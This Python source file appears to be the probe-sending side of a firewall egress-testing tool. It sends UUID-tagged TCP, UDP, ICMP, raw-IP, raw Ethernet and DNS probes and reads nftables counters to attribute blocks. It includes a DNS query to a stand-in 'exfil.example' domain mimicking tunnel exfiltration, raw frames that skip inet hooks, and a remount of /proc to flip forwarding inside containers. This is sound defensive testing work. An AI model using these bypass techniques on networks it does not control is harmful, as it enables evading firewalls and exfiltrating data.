"""The attacker that runs on a host: standard library only, sent over ssh, leaves nothing behind.

Takes one JSON document as its argument: ``{"source", "probes": [...], "controls": [[kind, family], ...]}``, where ``source`` is
this very text (a nested guest runs it again); prints one JSON document:
``{"results": {id: {"signature", "detail", "seconds", "counters": {name: delta}}}, "controls": {kind: bool}}``.

Every probe carries a UUID in its payload, so that a canary that hears it can say which probe it was. Probes run one after the
other, with the firewall's named counters read before and after each: the difference is the attribution.

Signatures: ``connected`` ``answered`` ``sent`` (no error and no answer: silence) ``timeout`` ``eperm`` ``unreachable`` ``refused``
``enobufs`` ``rcode:<NAME>`` ``error:<errno>``. A signature says what the attacker saw, not what it means; `verdict.judge` decides.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import secrets
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Probe = dict[str, Any]
Seen = tuple[str, dict[str, Any]]  # the signature, and what else the attacker saw

TIMEOUT_SECONDS = 0.6
UPLINK = "host0"
QTYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28}
RCODES = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
ETH_IPV4, ETH_IPV6, ETH_EXPERIMENTAL = 0x0800, 0x86DD, 0x88B5
NESTED = "ct-nested"


def family(probe: Probe) -> int:
    return socket.AF_INET6 if probe["family"] == 6 else socket.AF_INET


def signature_of(error: OSError) -> str:
    if isinstance(error, TimeoutError):
        return "timeout"
    names = {
        errno.EPERM: "eperm",
        errno.EACCES: "eperm",
        errno.EHOSTUNREACH: "unreachable",
        errno.ENETUNREACH: "unreachable",
        errno.ECONNREFUSED: "refused",
        errno.ENOBUFS: "enobufs",
    }
    number = error.errno or 0
    return names.get(number, f"error:{errno.errorcode.get(number, number)}")


def tcp(probe: Probe) -> Seen:
    """Connect and, if that works, hand over the UUID: an open path is proven at the far end."""
    with socket.socket(family(probe), socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT_SECONDS)
        try:
            sock.connect((probe["target"], probe["port"]))
        except OSError as error:
            return signature_of(error), {}
        with contextlib.suppress(OSError):
            sock.sendall(probe["uuid"].encode())
        return "connected", {}


def udp(probe: Probe, payload: bytes | None = None) -> Seen:
    with socket.socket(family(probe), socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_SECONDS)
        try:
            sock.sendto(payload or probe["uuid"].encode(), (probe["target"], probe["port"]))
            data = sock.recv(2048)
        except OSError as error:
            return ("sent" if isinstance(error, TimeoutError) else signature_of(error)), {}
        return "answered", {"data": data.hex()}


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmp(probe: Probe) -> Seen:
    """Echo request whose payload is the UUID. ICMPv6 checksums are the kernel's work on a raw ICMPv6 socket (RFC 3542).

    Without the right to a raw socket, the kernel's echo socket does it (icmp(7)): it sets identifier and checksum, and gives no header.
    """
    six = probe["family"] == 6
    body = struct.pack("!HH", os.getpid() & 0xFFFF, 1) + probe["uuid"].encode()
    kind = 128 if six else 8
    packet = struct.pack("!BBH", kind, 0, 0) + body
    if not six:
        packet = struct.pack("!BBH", kind, 0, checksum(packet)) + body
    number = socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP
    offset = 0 if six else 20
    try:
        sock = socket.socket(family(probe), socket.SOCK_RAW, number)
    except PermissionError:
        sock, offset = socket.socket(family(probe), socket.SOCK_DGRAM, number), 0
    with sock:
        try:
            sock.sendto(packet, (probe["target"], 0))
        except OSError as error:
            return signature_of(error), {}
        deadline = time.monotonic() + TIMEOUT_SECONDS
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                data = sock.recv(2048)
            except OSError:
                break
            if data[offset] == (129 if six else 0) and probe["uuid"].encode() in data:
                return "answered", {}
        return "sent", {}


def rawip(probe: Probe) -> Seen:
    """A packet of an IP protocol that is neither TCP, UDP nor ICMP (47 GRE, 132 SCTP, ...)."""
    with socket.socket(family(probe), socket.SOCK_RAW, probe["protocol_number"]) as sock:
        try:
            sock.sendto(probe["uuid"].encode(), (probe["target"], 0))
        except OSError as error:
            return signature_of(error), {}
        return "sent", {}


def udp_datagram(probe: Probe, source: str) -> bytes:
    """An IPv4 or IPv6 UDP datagram as bytes, for frames that skip the IP stack."""
    payload = probe["uuid"].encode()
    length = 8 + len(payload)
    packed = [socket.inet_pton(family(probe), address) for address in (source, probe["target"])]
    if probe["family"] == 6:
        pseudo = packed[0] + packed[1] + struct.pack("!I3xB", length, 17)
        head: bytes = struct.pack("!IHBB", 6 << 28, length, 17, 64) + packed[0] + packed[1]
    else:
        pseudo = packed[0] + packed[1] + struct.pack("!BBH", 0, 17, length)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 1, 0, 64, 17, 0, packed[0], packed[1])
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    header = struct.pack("!HHHH", 40000, probe["port"], length, 0)
    summed = checksum(pseudo + header + payload) or 0xFFFF
    datagram: bytes = head + struct.pack("!HHHH", 40000, probe["port"], length, summed) + payload
    return datagram


def interface_address(version: int) -> str:
    command = ["ip", "-j", f"-{version}", "addr", "show", "dev", UPLINK, "scope", "global"]
    shown = json.loads(subprocess.run(command, capture_output=True, check=True).stdout)
    return str(next(info["local"] for link in shown for info in link.get("addr_info", [])))


def router_mac(probe: Probe) -> bytes:
    """The router's link-layer address: an attacker learns it from the neighbour table, so the probe does too."""
    version = str(probe["family"])
    shown = json.loads(subprocess.run(["ip", "-j", f"-{version}", "route", "show", "default"], capture_output=True, check=True).stdout)
    gateway = shown[0]["gateway"]
    with contextlib.suppress(OSError), socket.socket(family(probe), socket.SOCK_DGRAM) as sock:
        sock.sendto(b"neighbour", (gateway, 9))
    for _ in range(20):
        neighbours = json.loads(subprocess.run(["ip", "-j", "neigh", "show", gateway], capture_output=True, check=True).stdout)
        for entry in neighbours:
            if "lladdr" in entry:
                return bytes.fromhex(entry["lladdr"].replace(":", ""))
        time.sleep(0.02)
    return b"\xff" * 6


def frame(probe: Probe) -> Seen:
    """A frame by AF_PACKET: skips every inet hook, so only the netdev egress chain can stop it (docs/threat-model.md)."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((UPLINK, 0))
        own = sock.getsockname()[4]
        if probe["ethertype"] == ETH_EXPERIMENTAL:
            body, ethertype = probe["uuid"].encode().ljust(46, b"\0"), ETH_EXPERIMENTAL
            target = b"\xff" * 6
        else:
            body = udp_datagram(probe, interface_address(probe["family"]))
            ethertype = ETH_IPV6 if probe["family"] == 6 else ETH_IPV4
            target = router_mac(probe)
        try:
            sock.send(target + own + struct.pack("!H", ethertype) + body)
        except OSError as error:
            return signature_of(error), {}
        return "sent", {}


def dns(probe: Probe) -> Seen:
    """A query with the UUID as a label, as a tunnel would send it."""
    name = probe.get("name") or f"{probe['uuid']}.exfil.example"
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    ident = secrets.token_bytes(2)
    query = ident + struct.pack("!HHHHH", 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", QTYPES[probe["qtype"]], 1)
    seen, detail = udp(probe, query)
    if seen != "answered":
        return seen, detail
    data = bytes.fromhex(detail["data"])
    if data[:2] != ident:
        return "error:foreign-answer", {}
    return f"rcode:{RCODES.get(data[3] & 15, data[3] & 15)}", {"answers": struct.unpack("!H", data[6:8])[0]}


def run(*argv: str) -> None:
    subprocess.run(argv, check=True, capture_output=True)


FORWARDING = ("net/ipv4/ip_forward", "net/ipv6/conf/all/forwarding")


def set_forwarding(values: list[str]) -> None:
    """Write the host's forwarding switches through a /proc of our own: a container's own one is often read-only, which stops no root."""
    writes = " && ".join(f"echo {value} > /proc/sys/{name}" for name, value in zip(FORWARDING, values, strict=True))
    run("unshare", "--mount", "sh", "-c", f"mount -t proc proc /proc && {writes}")


@contextlib.contextmanager
def nested_namespace() -> Iterator[None]:
    """A container-like guest on this host whose traffic the host would forward: the `output` hook never sees it."""
    before = [Path("/proc/sys", name).read_text().strip() for name in FORWARDING]
    subprocess.run(["ip", "netns", "del", NESTED], capture_output=True)
    try:
        run("ip", "netns", "add", NESTED)
        run("ip", "link", "add", "ct-out", "type", "veth", "peer", "name", "ct-in", "netns", NESTED)
        inside = (["ip", "-n", NESTED], "ct-in", "203.0.113.130/30", "2001:db8:e::2/64")
        outside = (["ip"], "ct-out", "203.0.113.129/30", "2001:db8:e::1/64")
        for argv, link, ipv4, ipv6 in (inside, outside):
            run(*argv, "addr", "add", ipv4, "dev", link)
            run(*argv, "-6", "addr", "add", ipv6, "dev", link, "nodad")
            run(*argv, "link", "set", link, "up")
        run("ip", "-n", NESTED, "route", "add", "default", "via", "203.0.113.129")
        run("ip", "-n", NESTED, "-6", "route", "add", "default", "via", "2001:db8:e::1")
        # The host's input chain drops a stranger's neighbour discovery, rightly; the guest is told the address instead, as malware would.
        shown = subprocess.run(["ip", "-j", "link", "show", "dev", "ct-out"], capture_output=True, check=True).stdout
        mac = json.loads(shown)[0]["address"]
        run("ip", "-n", NESTED, "neigh", "replace", "2001:db8:e::1", "lladdr", mac, "dev", "ct-in", "nud", "permanent")
        set_forwarding(["1", "1"])
        yield
    finally:
        with contextlib.suppress(subprocess.CalledProcessError):
            set_forwarding(before)
        subprocess.run(["ip", "netns", "del", NESTED], capture_output=True)
        subprocess.run(["ip", "link", "del", "ct-out"], capture_output=True)


def forward(probe: Probe) -> Seen:
    """The same datagram, sent from inside the guest through this host."""
    child = json.dumps({"probes": [{**probe, "kind": "udp"}], "controls": [], "nested": True})
    argv = ["ip", "netns", "exec", NESTED, sys.executable, "-c", PLAN["source"], child]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    if done.returncode != 0:
        return "error:nested", {"stderr": done.stderr[-200:]}
    result = json.loads(done.stdout)["results"][probe["id"]]
    return result["signature"], {}


KINDS = {"tcp": tcp, "udp": udp, "icmp": icmp, "rawip": rawip, "frame": frame, "dns": dns, "forward": forward}


def counters() -> dict[str, int]:
    """Packets by counter name; empty where nft is not there or no counter is defined."""
    done = subprocess.run(["nft", "-j", "list", "counters"], capture_output=True, text=True)
    if done.returncode != 0:
        return {}
    found = {}
    for item in json.loads(done.stdout)["nftables"]:
        if "counter" in item:
            found[item["counter"]["name"]] = item["counter"]["packets"]
    return found


def loopback(kind: str, version: int) -> bool:
    """The tool control: the same code, sent to this host itself over `lo`, must arrive. Otherwise its silence elsewhere means nothing."""
    address = "::1" if version == 6 else "127.0.0.1"
    fam = socket.AF_INET6 if version == 6 else socket.AF_INET
    mark = "control-" + secrets.token_hex(8)
    probe = {"family": version, "target": address, "port": 0, "uuid": mark, "protocol_number": 47, "qtype": "A"}
    if kind == "tcp":
        with socket.create_server((address, 0), family=fam) as server:
            probe["port"] = server.getsockname()[1]
            return tcp(probe)[0] == "connected"
    if kind == "icmp":
        return icmp(probe)[0] == "answered"
    send: Callable[[Probe], Seen]
    with contextlib.ExitStack() as stack:
        if kind in ("udp", "dns", "forward"):
            receiver = stack.enter_context(socket.socket(fam, socket.SOCK_DGRAM))
            receiver.bind((address, 0))
            probe["port"] = receiver.getsockname()[1]
            send = udp if kind != "dns" else dns
            if kind == "dns":
                probe["name"] = mark + ".example"
        elif kind == "rawip":
            receiver, send = stack.enter_context(socket.socket(fam, socket.SOCK_RAW, 47)), rawip
        else:
            receiver = stack.enter_context(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
            receiver.bind(("lo", 0))
            sender = stack.enter_context(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
            sender.bind(("lo", 0))

            def own_frame(_probe: Probe) -> Seen:
                sender.send(b"\0" * 12 + struct.pack("!H", ETH_EXPERIMENTAL) + mark.encode().ljust(46, b"\0"))
                return "sent", {}

            send = own_frame

        receiver.settimeout(0.2)
        send(probe)
        deadline = time.monotonic() + 1
        while time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError):
                if mark.encode() in receiver.recv(2048):
                    return True
        return False


def attack(plan: dict[str, Any]) -> dict[str, Any]:
    """Every probe in order; the nested ones last, inside one guest. A guest that cannot be made is an error of those probes alone."""
    outright = [probe for probe in plan["probes"] if probe["kind"] != "forward"]
    nested = [probe for probe in plan["probes"] if probe["kind"] == "forward"]
    count: Callable[[], dict[str, int]] = dict if plan.get("nested") else counters
    results = {probe["id"]: one(probe, count) for probe in outright}
    if nested:
        try:
            with nested_namespace():
                results |= {probe["id"]: one(probe, count) for probe in nested}
        except (OSError, subprocess.SubprocessError) as error:
            message = getattr(error, "stderr", None) or str(error)
            failed = {"signature": "error:guest", "detail": {"message": str(message)[-300:]}, "seconds": 0, "counters": {}}
            results |= {probe["id"]: failed for probe in nested}
    return results


def one(probe: Probe, count: Callable[[], dict[str, int]]) -> dict[str, Any]:
    before, started = count(), time.monotonic()
    try:
        signature, detail = KINDS[probe["kind"]](probe)
    except (OSError, subprocess.SubprocessError, ValueError, KeyError, StopIteration) as error:
        signature, detail = f"error:{type(error).__name__}", {"message": str(error)[:200]}
    seconds, after = round(time.monotonic() - started, 3), count()
    delta = {name: value - before[name] for name, value in after.items() if name in before and value != before[name]}
    shown = {key: value for key, value in detail.items() if key != "data"}
    return {"signature": signature, "detail": shown, "seconds": seconds, "counters": delta}


def controls(wanted: list[tuple[str, int]]) -> dict[str, Any]:
    found: dict[str, Any] = {}
    for kind, version in wanted:
        try:
            found[f"{kind}{version}"] = loopback(kind, version)
        except OSError as error:
            found[f"{kind}{version}"] = False
            found[f"{kind}{version}.error"] = str(error)
    return found


if __name__ == "__main__":
    PLAN = json.loads(sys.argv[1])
    sys.stdout.write(json.dumps({"results": attack(PLAN), "controls": controls(PLAN["controls"])}) + "\n")
